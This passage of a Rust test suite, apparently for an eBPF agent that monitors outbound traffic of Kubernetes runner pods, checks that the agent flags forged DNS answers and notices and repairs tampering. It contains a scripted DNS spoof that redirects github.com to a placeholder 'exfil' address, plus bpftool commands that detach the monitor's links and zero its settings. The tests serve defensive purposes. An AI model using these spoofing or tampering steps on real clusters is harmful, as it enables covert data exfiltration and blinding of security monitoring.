    sh(&["-n", &ns.name, "link", "set", pod_end, "up"]);
    sh(&["-n", &ns.name, "link", "set", &bridge, "up"]);
    sh(&["-n", &nested, "addr", "add", "172.30.0.2/24", "dev", nested_end]);
    sh(&["-n", &nested, "addr", "add", &format!("{}/32", ns.host_v4), "dev", nested_end]);
    sh(&["-n", &nested, "link", "set", nested_end, "up"]);
    for key in ["all", "default", bridge.as_str()] {
        let out = std::process::Command::new("ip")
            .args(["netns", "exec", &ns.name, "sysctl", "-qw", &format!("net.ipv4.conf.{key}.rp_filter=0")])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }

    // A process of the job asks the cluster resolver (which does not answer now) for
    // github.com; the nested container answers first, from the resolver's address, with its
    // own: the answer matches the query in all but the interface it came in on.
    let exfil = Ipv4Addr::new(203, 0, 113, 67);
    let forged = common::dns_response(9, "github.com", 1, &[("github.com", 300, RecordData::A(exfil))], true, false);
    let query = common::py_bytes(&common::dns_query(9, "github.com"));
    let victim = {
        let (container, ns_name) = (pod.container.clone(), ns.name.clone());
        let host = ns.host_v4;
        let script = format!(
            "import socket\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 45053)); s.settimeout(10)\n\
             s.sendto(bytes([{query}]), ('{host}', 53)); s.recv(2048)\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{exfil}', 443))\n"
        );
        std::thread::spawn(move || {
            let mut cmd = std::process::Command::new("sh");
            cmd.args(["-c", "echo $$ > \"$0/cgroup.procs\" && exec \"$@\""]).arg(&container);
            cmd.args(["ip", "netns", "exec", &ns_name, "python3", "-c", &script]);
            cmd.output().unwrap()
        })
    };
    let spoof = format!(
        "import socket, time\ntime.sleep(0.5)\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('{}', 53))\n\
         s.sendto(bytes([{}]), ('172.30.0.1', 45053))\n",
        ns.host_v4,
        common::py_bytes(&forged)
    );
    let out =
        std::process::Command::new("ip").args(["netns", "exec", &nested, "python3", "-c", &spoof]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = victim.join().unwrap();
    let _ = std::process::Command::new("ip").args(["netns", "del", &nested]).status();
    assert!(out.status.success(), "the victim got the forged answer: {}", String::from_utf8_lossy(&out.stderr));

    let obs = agent.drain().await;
    assert!(one(&obs, IpAddr::V4(exfil), 443, Proto::Udp).hosts.is_empty(), "the forged name is not used");
    let suspicious = agent.pipeline.take_suspicious();
    assert_eq!(suspicious.len(), 1, "{suspicious:?}\n{:?}", agent.pipeline.stats());
    assert!(suspicious[0].other_interface && !suspicious[0].loopback, "{suspicious:?}");
    assert_eq!(suspicious[0].claimed, [IpAddr::V4(exfil)]);
}

#[tokio::test]
async fn destinations_whose_records_were_lost_are_recovered_from_the_kernel_table() {
    // Dedupe on, 60,000 different destinations, nobody reading: a record each does not fit.
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let out = python(
        &pod.container,
        None,
        "import os, socket\nprint(os.getpid())\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(60000):\n  s.sendto(b'x', ('127.0.0.1', 1024 + p))",
    );
    let stats = agent.probes.stats().unwrap();
    assert!(stats.lost_calls > 0, "{stats:?}");
    let read = agent.drain().await;
    assert_eq!(read.len() as u64, stats.call_events);
    assert!(read.iter().all(|o| o.pid == pid_of(&out)));
    let recovered = agent.totals().await;
    assert_eq!(recovered.len() as u64, stats.lost_calls, "every lost destination recovered");
    assert!(recovered.iter().all(|o| o.hook == Hook::Unknown && o.pod.as_ref().unwrap().pod_uid == pod.uid));
    let ports: HashSet<u16> = read.iter().chain(&recovered).map(|o| o.port).collect();
    assert_eq!(ports.len(), 60_000, "no destination unseen");
    let calls: u64 = agent.pipeline.calls().iter().map(|c| c.calls).sum();
    assert_eq!(calls, 60_000);
    assert!(agent.totals().await.is_empty(), "recovered once");
}

#[tokio::test]
async fn one_pods_flood_does_not_take_another_pods_records() {
    // Nobody reads during the flood: without budgets 60,000 records fill the ring buffer and
    // what the quiet pod does next is lost (see `records_that_do_not_fit_are_counted_as_lost`).
    let budget = PodBudget::default();
    let mut agent = Agent::start_with(WINDOW, budget);
    let flood = agent.pod(Layout::SystemdBurstable);
    let quiet = agent.pod(Layout::SystemdBurstable);
    python(
        &flood.container,
        None,
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(60000):\n  s.sendto(b'x', ('127.0.0.1', 1024 + p))",
    );
    python(
        &quiet.container,
        None,
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(100):\n  s.sendto(b'x', ('127.0.0.2', 2000 + p))",
    );
    let stats = agent.probes.stats().unwrap();
    assert_eq!(stats.lost_calls, 0, "the flood did not fill the ring buffer: {stats:?}");
    assert!(stats.throttled > 0, "{stats:?}");
    let throttled = agent.probes.throttled().unwrap();
    assert!(throttled.iter().any(|&(id, n)| id == flood.cgroup_id && n == stats.throttled), "{throttled:?}");
    assert!(stats.call_events < 60_000 + 100, "the flooding pod wrote at most its budget: {stats:?}");

    let read = agent.drain().await;
    let of = |obs: &[Observation], pod: &common::Pod| {
        obs.iter()
            .filter(|o| o.pod.as_ref().is_some_and(|p| p.pod_uid == pod.uid))
            .map(|o| o.port)
            .collect::<HashSet<_>>()
    };
    assert_eq!(of(&read, &quiet).len(), 100, "every call of the quiet pod was written");
    // The flooding pod loses nothing either, only time: its throttled destinations are in the
    // dedupe table, where the agent finds them.
    let recovered = agent.totals().await;
    let flood_ports: HashSet<u16> = of(&read, &flood).union(&of(&recovered, &flood)).copied().collect();
    assert_eq!(flood_ports.len(), 60_000, "no destination of the flooding pod unseen");
}

#[tokio::test]
async fn the_programs_run_only_in_armed_pods_and_see_an_armed_pod_from_its_first_call() {
    let mut agent = Agent::start(WINDOW);
    agent.watch_pods(Layout::CgroupfsBestEffort);
    let (runner, other, late) = (
        agent.pod_cgroups(Layout::CgroupfsBestEffort),
        agent.pod_cgroups(Layout::CgroupfsBestEffort),
        agent.pod_cgroups(Layout::CgroupfsBestEffort),
    );
    agent.probes.arm_pod(&runner.dir).unwrap();
    // Armed as its cgroup appeared, then found not to be a runner: disarmed.
    agent.probes.arm_pod(&other.dir).unwrap();
    agent.probes.forget_pod(other.cgroup_id).unwrap();
    agent.rescan();

    // What a pod's sockets run: all the programs in the runner pod (and its containers), none
    // in a pod that is not monitored, nor in one not armed yet, nor anywhere else on the node.
    assert_eq!(effective(&runner.container), runwarden_programs());
    assert_eq!(effective(&other.container), [], "a pod not monitored runs nothing");
    assert_eq!(effective(&late.container), []);
    assert_eq!(effective(&agent.root), []);

    let ns = NetNs::new();
    let dns = DnsServer::start(IpAddr::V4(ns.host_v4));
    let target = Ipv4Addr::new(198, 51, 100, 21);
    dns.set("svc.example", Zone::Records(vec![("svc.example".into(), RecordData::A(target))]));
    let resolve_and_call = |name: &str| {
        format!(
            "import os, socket\nprint(os.getpid())\n\
             ai = socket.getaddrinfo('{name}', 443, socket.AF_INET, socket.SOCK_DGRAM)[0]\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ai[4])\n"
        )
    };
    let script = &resolve_and_call("svc.example");
    let before = agent.probes.stats().unwrap();
    let (r, o, l) = (
        python(&runner.container, Some(&ns), script),
        python(&other.container, Some(&ns), script),
        python(&late.container, Some(&ns), script),
    );
    let obs = agent.drain().await;
    let call = |out: &std::process::Output| obs.iter().find(|c| c.pid == pid_of(out) && c.port == 443).cloned();
    let seen = call(&r).expect("the runner's call");
    assert_eq!(seen.hosts, ["svc.example"]);
    assert!(seen.executable.as_deref().is_some_and(|e| e.contains("python")), "{seen:#?}");
    assert!(obs.iter().all(|c| c.pid != pid_of(&o) && c.pid != pid_of(&l)), "only the armed pod: {obs:#?}");
    let after = agent.probes.stats().unwrap();
    assert_eq!(
        (after.call_events - before.call_events, after.dns_events - before.dns_events),
        (obs.len() as u64, 2),
        "the runner's calls, its one query and its answer, nothing of the other pods"
    );

    // Armed: its first call and answer after that are read, in a container made later too.
    agent.probes.arm_pod(&late.dir).unwrap();
    let nested = agent.cgroup(&format!("{}/nested", late.container.strip_prefix(&agent.root).unwrap().display()));
    agent.rescan();
    assert_eq!(effective(&nested), runwarden_programs());
    let other_target = Ipv4Addr::new(198, 51, 100, 22);
    dns.set("svc2.example", Zone::Records(vec![("svc2.example".into(), RecordData::A(other_target))]));
    let l = python(&nested, Some(&ns), &resolve_and_call("svc2.example"));
    let obs = agent.drain().await;
    let named = obs.iter().find(|c| c.pid == pid_of(&l) && c.port == 443).expect("the call once armed");
    assert_eq!((named.ip, named.hosts.as_slice()), (IpAddr::V4(other_target), ["svc2.example".to_string()].as_slice()));

    // Gone: the programs go with the pod's mark.
    agent.probes.forget_pod(late.cgroup_id).unwrap();
    assert!(!agent.probes.armed(late.cgroup_id));
    assert_eq!(effective(&nested), []);
}

/// The ids of the links attached to a cgroup (`bpftool link show`), for detaching one as a
/// privileged process could.
fn links_of(dir: &std::path::Path) -> Vec<(u64, String)> {
    use std::os::unix::fs::MetadataExt;
    let id = std::fs::metadata(dir).unwrap().ino();
    let out = std::process::Command::new("bpftool").args(["-j", "link", "show"]).output().unwrap();
    let links: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap_or_default();
    links
        .iter()
        .filter(|l| l["cgroup_id"].as_u64() == Some(id))
        .map(|l| (l["id"].as_u64().unwrap(), l["attach_type"].as_str().unwrap_or_default().to_string()))
        .collect()
}

#[tokio::test]
async fn programs_detached_a_mark_deleted_or_the_settings_rewritten_from_outside_are_noticed_and_put_back() {
    let mut agent = Agent::start(WINDOW);
    agent.watch_pods(Layout::CgroupfsBestEffort);
    let (pod, quiet) = (agent.pod_cgroups(Layout::CgroupfsBestEffort), agent.pod_cgroups(Layout::CgroupfsBestEffort));
    agent.probes.arm_pod(&pod.dir).unwrap();
    agent.probes.arm_pod(&quiet.dir).unwrap();
    agent.rescan();
    assert_eq!(agent.probes.check_pods().unwrap(), [], "nothing wrong after arming");

    // What a process with CAP_SYS_ADMIN could do: detach the pod's egress link by id.
    let links = links_of(&pod.dir);
    assert_eq!(links.len(), 3, "{links:?}");
    let (egress, _) = links.iter().find(|(_, t)| t == "cgroup_inet_egress").unwrap();
    let out =
        std::process::Command::new("bpftool").args(["link", "detach", "id", &egress.to_string()]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!effective(&pod.container).iter().any(|(_, name)| name == "egress"));
    let script = "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9901))";
    python(&pod.container, None, script);
    assert!(agent.drain().await.is_empty(), "unseen while detached");

    let found = agent.probes.check_pods().unwrap();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].id, found[0].detached.as_slice(), found[0].unmarked),
        (pod.cgroup_id, ["egress"].as_slice(), false)
    );
    assert_eq!(effective(&pod.container), runwarden_programs(), "attached again");
    python(&pod.container, None, script);
    let obs = agent.drain().await;
    assert!(obs.iter().any(|o| o.port == 9901), "seen again: {obs:#?}");
    assert_eq!(agent.probes.check_pods().unwrap(), [], "and nothing wrong any more");

    // Or delete a pod's mark from the monitored set by map id (only this agent's map has it).
    assert!(common::delete_from_maps_named("MONITORED", &quiet.cgroup_id.to_ne_bytes()));
    let maps = std::process::Command::new("bpftool").args(["-j", "map", "show"]).output().unwrap();
    let maps: Vec<serde_json::Value> = serde_json::from_slice(&maps.stdout).unwrap();
    let found = agent.probes.check_pods().unwrap();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((found[0].id, found[0].detached.is_empty(), found[0].unmarked), (quiet.cgroup_id, true, true));
    assert_eq!(agent.probes.check_pods().unwrap(), [], "marked again");

    // Or rewrite the settings (zeros: no pod parents, so no caller is in a pod). This agent's
    // CONFIG map is the one naming its kubepods cgroup.
    assert!(!agent.probes.check_config().unwrap());
    let kubepods = std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(agent.root.join("kubepods")).unwrap());
    let ours = maps.iter().filter(|m| m["name"] == "CONFIG").find_map(|m| {
        let id = m["id"].as_u64().unwrap().to_string();
        let dump = std::process::Command::new("bpftool").args(["-j", "map", "dump", "id", &id]).output().unwrap();
        let dump = String::from_utf8_lossy(&dump.stdout).into_owned();
        let needle: Vec<String> = kubepods.to_ne_bytes().iter().map(|b| format!("\"0x{b:02x}\"")).collect();
        dump.replace(' ', "").contains(&needle.join(",")).then_some(id)
    });
    let id = ours.expect("this agent's CONFIG map");
    let mut args = vec!["map", "update", "id", id.as_str(), "key", "0", "0", "0", "0", "value"];
    args.extend(std::iter::repeat_n("0", size_of::<runwarden_ebpf_common::Config>()));
    let out = std::process::Command::new("bpftool").args(&args).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    python(&pod.container, None, &script.replace("9901", "9903"));
    assert!(agent.drain().await.is_empty(), "unseen with the settings rewritten");
    assert!(agent.probes.check_config().unwrap(), "noticed");
    assert!(!agent.probes.check_config().unwrap(), "and written again");
    python(&pod.container, None, &script.replace("9901", "9902"));
    assert!(agent.drain().await.iter().any(|o| o.port == 9902), "seen again");
}
